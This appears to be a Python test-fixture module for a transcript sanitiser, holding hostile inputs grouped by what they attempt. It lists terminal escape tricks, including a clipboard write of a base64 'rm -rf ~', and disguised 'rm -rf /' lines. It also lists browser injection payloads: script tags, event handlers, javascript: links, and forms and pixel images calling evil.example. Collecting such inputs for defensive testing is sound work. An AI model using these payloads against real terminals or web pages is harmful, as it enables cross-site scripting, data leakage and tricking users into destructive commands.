"""Text as an attacker would put it into a transcript, by what it tries."""

from __future__ import annotations

HOSTILE = {
    "OSC 52 sets the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "OSC 8 hides an address": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "CSI clears the screen": "\x1b[2J\x1b[H",
    "C1 CSI in one character": "\x9b31mred",
    "C1 OSC in one character": "\x9d0;title\x9c",
    "DEL": "a\x7fb",
    "backspaces": "rm -rf /\x08\x08\x08ls",
    "a carriage return rewrites the line": "safe\rrm -rf /",
    "bidi override": "\u202egnp.exe",
    "bidi isolate": "\u2066x\u2069",
    "bidi mark": "\u200fx\u061c",
    "zero width space": "a\u200bb",
    "tag characters": "\U000e0041\U000e0042",
    "line separators": "a\u2028b\u2029c\x85d",
    "half of a pair": "\ud800",
    "NUL": "a\x00b",
}


def is_harmless(char: str) -> bool:
    """True for what neither moves the cursor nor hides nor turns text around."""
    return char.isprintable() or char in "\u200c\u200d"


# Text that would act in a browser if any of it became markup, a link or a style.
MARKUP = {
    "a script": "<script>alert(1)</script>",
    "a script after every end": "</pre></code></details></section></style><script>x()</script>",
    "an image that fails": '<img src=x onerror="alert(1)">',
    "an SVG that loads": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "an SVG script": "<svg><script href=data:,alert(1) /></svg>",
    "a frame": '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
    "a form": '<form action="http://evil.example"><button>OK</button></form>',
    "a style": "<style>body{display:none}</style>",
    "a style attribute": '<p style="background:url(http://evil.example/p)">x</p>',
    "an import": "@import url(http://evil.example/x.css);",
    "a base": '<base href="http://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "a link that runs": "[click](javascript:alert(1))",
    "a link in disguise": "[click](&#106;avascript:alert(1))",
    "a link of data": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "an image elsewhere": "![x](http://evil.example/pixel.png)",
    "an image by reference": "![x][r]\n\n[r]: http://evil.example/pixel.png",
    "an attribute that ends": '" autofocus onfocus=alert(1) x="',
    "an attribute in single quotes": "' onmouseover='alert(1)",
    "a template": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "a comment": "<!-- --!><script>alert(1)</script> -->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "a fence that ends": "```\n</code></pre><script>alert(1)</script>\n```",
    "a math tag": "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "an id that hides another": '<a id="main"></a><form id="find"></form>',
}
